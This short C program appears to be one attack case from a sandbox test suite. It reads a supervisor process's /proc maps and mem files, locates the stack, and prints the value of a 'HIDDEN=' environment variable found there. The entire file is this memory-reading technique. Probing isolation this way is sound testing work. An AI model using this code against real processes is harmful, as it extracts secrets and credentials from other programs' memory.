/* /proc/SUPERVISOR/mem, where its stack keeps the environment. */
#include "../attack.h"
int main(void)
{
	static char maps[1 << 20];
	int fd = open(proc(supervisor(), "maps"), O_RDONLY), memory = open(proc(supervisor(), "mem"), O_RDONLY);
	size_t size = 0;
	for (ssize_t n; fd >= 0 && (n = read(fd, maps + size, sizeof maps - 1 - size)) > 0;)
		size += (size_t)n;
	char *line = strstr(maps, "[stack]");
	unsigned long from, to;
	if (line == NULL || memory < 0)
		return 1;
	while (line > maps && line[-1] != '\n')
		line--;
	sscanf(line, "%lx-%lx", &from, &to);
	char *stack = malloc(to - from);
	ssize_t got = pread(memory, stack, to - from, (off_t)from);
	char *found = got > 0 ? memmem(stack, (size_t)got, "HIDDEN=", 7) : NULL;
	return found ? (puts(found), 0) : 1;
}
